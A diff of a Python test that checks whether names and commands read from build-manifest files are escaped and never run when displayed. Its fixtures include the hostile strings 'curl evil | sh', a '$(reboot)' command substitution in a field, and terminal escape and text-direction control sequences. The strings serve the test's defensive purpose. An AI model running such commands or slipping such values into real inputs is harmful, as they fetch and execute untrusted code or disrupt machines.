@@ -55,7 +55,6 @@ def test_names_from_files_are_escaped_and_no_command_of_theirs_is_shown(
     folder = engine_copy()
     set_points(folder, **{NASTY: Budget(exit=1)})
     manifest = read_manifest(folder)
-    (name,) = manifest.targets
     notes = {
         "known": NotBuilt(
             backend="tensorrt", precision="fp16", reason=NASTY, command="curl evil | sh"
@@ -64,8 +63,7 @@ def test_names_from_files_are_escaped_and_no_command_of_theirs_is_shown(
         "odd": NotBuilt(backend="tensorrt", precision="$(reboot)", reason="", command="reboot"),
     }
     task = msgspec.structs.replace(manifest.task, labels=(NASTY, *manifest.task.labels[1:]))
-    targets = {**manifest.targets, NASTY: manifest.targets[name]}
-    changed = msgspec.structs.replace(manifest, task=task, targets=targets, not_built=notes)
+    changed = msgspec.structs.replace(manifest, task=task, not_built=notes)
     write_manifest(folder, changed)
     shown = run(folder).stdout
     assert "\\x1b]0;title\\x07\\x1b[2J\\u202e[red]" in shown
